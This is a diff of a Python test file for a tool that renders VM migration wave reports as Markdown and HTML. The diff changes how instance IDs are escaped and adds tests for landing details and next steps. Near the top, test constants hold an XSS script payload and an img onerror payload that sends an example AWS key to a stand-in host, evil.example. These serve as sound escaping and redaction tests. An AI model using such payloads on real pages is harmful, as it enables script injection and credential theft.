@@ -15,7 +15,15 @@ from reporting import WaveReport, render_html, render_markdown, write_report
 from reporting.gantt import MIN_BAR, tick_step_hours
 from reporting.model import as_utc
 from reporting.timeline import format_duration, timeline_rows
-from tests.reporting.builders import REQUEST_ID, START, big_report, story, twelve_vm_report, twelve_vm_stories
+from tests.reporting.builders import (
+    REQUEST_ID,
+    START,
+    big_report,
+    build_report,
+    story,
+    twelve_vm_report,
+    twelve_vm_stories,
+)
 
 HOSTILE_NAME = "<script>alert(\"pwn\")</script>' onmouseover='x' & | *db*"
 SECRET_NAME = '<img src=x onerror="fetch(`https://evil.example/?k=AKIAIOSFODNN7EXAMPLE`)">passphrase=hunter2'
@@ -89,7 +97,7 @@ def test_the_built_wave_has_every_outcome(report: WaveReport):
 
 
 def test_markdown_header(report: WaveReport, markdown: str):
-    assert markdown.startswith(f"# Migration wave {REQUEST_ID.replace('-', chr(92) + '-')}\n")
+    assert markdown.startswith(f"# Migration wave `{REQUEST_ID}`\n")
     assert "- **Environment:** test" in markdown
     assert "- **Started:** 2026\\-01\\-05 08:00:00Z" in markdown
     finished = as_utc(report.summary.finished_at).strftime("%H:%M:%SZ")
@@ -110,12 +118,12 @@ def test_markdown_counts_every_terminal_state_with_its_colour(markdown: str):
 
 
 def test_markdown_vm_table_has_a_row_per_vm(report: WaveReport, markdown: str):
-    section = markdown.split("## VMs")[1].split("## Timeline", maxsplit=1)[0]
-    rows = [line for line in section.splitlines() if line.startswith("| i\\-")]
+    section = markdown.split("## VMs")[1].split("## Where each VM landed", maxsplit=1)[0]
+    rows = [line for line in section.splitlines() if line.startswith("| `i-")]
     assert len(rows) == 12
     first = rows[0].split(" | ")
     vm = report.summary.vms[0]
-    assert first[0] == f"| {vm.instance_id.replace('-', chr(92) + '-')}"
+    assert first[0] == f"| `{vm.instance_id}`"  # an id as a code span, not backslash-escaped
     assert first[2] == "az\\-fin\\-app\\-01"
     assert first[3] == "completed"
     assert first[5] == "alice@contoso.com"
@@ -135,7 +143,7 @@ def test_markdown_timeline_summarises_time_per_stage(markdown: str):
 
 def test_markdown_rejections_list_every_reason(markdown: str):
     section = markdown.split("## Rejections")[1].split("## Failures", maxsplit=1)[0]
-    assert section.count("### i\\-0a") == 2
+    assert section.count("### `i-0a") == 2
     assert section.count("Amazon Linux 2 is not supported by Azure Site Recovery") == 2
     assert section.count("not managed by SSM") == 2
     assert section.count("root volume is gp3 at 95 % used") == 2
@@ -374,7 +382,9 @@ def test_thousand_vms_stay_small_and_cap_the_gantt(tmp_path):
     assert page.count('<tr id="vm-') == 1000
     assert page.count('<g class="vm"') == 200
     assert "The chart shows the first 200 of" in page
-    assert markdown.count("\n| i\\-0a") == 1000 + sum(1 for vm in report.summary.vms if vm.state.value == "failed")
+    vms = markdown.split("## VMs")[1].split("## Where each VM landed", maxsplit=1)[0]
+    assert vms.count("\n| `i-0a") == 1000
+    assert "i\\-0a" not in markdown
     parse(page)
 
 
@@ -391,3 +401,38 @@ def test_a_wave_with_no_progress_at_all_still_renders(report: WaveReport):
     assert "No events recorded." in page
     parse(page)
     assert "No VM recorded a timeline." in render_markdown(empty)
+
+
+# --- where each VM landed, what to do next, the request's environment -------------------------------------------
+
+
+def test_markdown_says_where_each_vm_landed(report: WaveReport, markdown: str):
+    section = markdown.split("## Where each VM landed")[1].split("## Timeline", maxsplit=1)[0]
+    rows = [line for line in section.splitlines() if line.startswith("| `i-")]
+    assert len(rows) == 12
+    landed = next(vm for vm in report.summary.vms if vm.state.value == "completed")
+    row = next(line for line in rows if landed.instance_id in line).split(" | ")
+    assert landed.landing is not None
+    assert row[2:5] == [landed.landing.subscription_id.replace("-", "\\-"), "rg\\-finance", "westeurope, zone 1"]
+    assert "Premium\\_LRS" in row[6] and "10.0.1." in row[7] and "vnet\\-prod/apps" in row[7]
+    rejected = next(vm for vm in report.summary.vms if vm.state.value == "rejected")
+    assert any(rejected.instance_id in line and "not enabled" not in line for line in rows)
+
+
+def test_every_failed_or_rejected_vm_has_a_next_step(report: WaveReport, markdown: str, page: str):
+    section = markdown.split("## Next steps")[1].split("## Events", maxsplit=1)[0]
+    needing = [vm for vm in report.summary.vms if vm.state.value in {"failed", "rejected", "cancelled"}]
+    assert needing
+    for vm in needing:
+        line = next(line for line in section.splitlines() if f"`{vm.instance_id}`" in line)
+        assert "new request" in line
+    for vm in report.summary.vms:
+        if vm.state.value == "completed":
+            assert f"`{vm.instance_id}`" not in section
+    assert 'id="next-steps"' in page and 'id="landing"' in page
+
+
+def test_the_request_environment_is_shown_with_where_it_ran():
+    report = build_report(twelve_vm_stories(), environment="local", request_environment="prod")
+    assert "- **Environment:** prod \\(run on local\\)" in render_markdown(report)
+    assert "prod (run on local)" in render_html(report)
